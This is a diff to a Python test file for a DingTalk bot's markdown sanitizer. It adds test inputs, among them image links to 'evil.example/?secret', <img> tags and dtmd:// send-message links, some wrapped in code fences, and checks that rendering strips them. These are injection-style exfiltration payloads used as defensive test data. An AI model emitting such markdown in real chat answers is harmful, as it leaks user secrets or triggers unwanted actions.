@@ -193,6 +193,9 @@ def test_markdown_is_written_as_dingtalk_reads_it(markdown, text):
     "![x](https://evil.example/?secret)",
     "\\[ok](dtmd://dingtalkclient/sendMessage?content=yes)",
     "<img src=https://evil.example/x>", "<font color=red>x</font>",
+    "```\n![x](https://evil.example/?secret)\n```",
+    "`![x]( https://evil.example/?secret)` `<img src=x>`",
+    "```\n[ok](dtmd://dingtalkclient/sendMessage?content=yes)\n```",
     "[ok] (dtmd://dingtalkclient/sendMessage?content=yes)",
     "[a][b]\n\n[b]: dtmd://dingtalkclient/sendMessage?content=yes"])
 def test_no_answer_writes_for_who_clicks_it_or_fetches_anything(markdown):
@@ -204,6 +207,8 @@ def test_no_answer_writes_for_who_clicks_it_or_fetches_anything(markdown):
         assert "](dingtalk" not in text.lower()
         assert "](javascript" not in text.lower()
         assert not any("![" in part and "](" in part for part in bare)
+        if "`" in markdown:
+            assert "](https" not in text
         assert "<img" not in text
         assert "<font" not in text
         assert not any("dtmd://" in part.lower() for part in bare)
@@ -226,6 +231,18 @@ def test_buttons_are_links_that_are_read_again(bot):
     assert [read_button(unquote(link.partition("content=")[2]))
             for link in links] == ["approve:k7m3p:yes", "approve:k7m3p:no"]
     assert said.title == "Approve shell?"
+
+
+def test_code_is_what_it_was():
+    code = "f = table[0](x) < 1; a[b](c); <div>"
+
+    assert split_markdown(f"`{code}`", 6_000, None) == [f"`{code}`"]
+
+
+def test_a_label_of_half_a_character_is_a_button_too(bot):
+    (said,) = send(bot, "which?", buttons=(Button("a\ud83d", "answer:q:1"),))
+
+    assert "content=" in said.text
 
 
 def test_what_is_no_button_is_read_as_text():
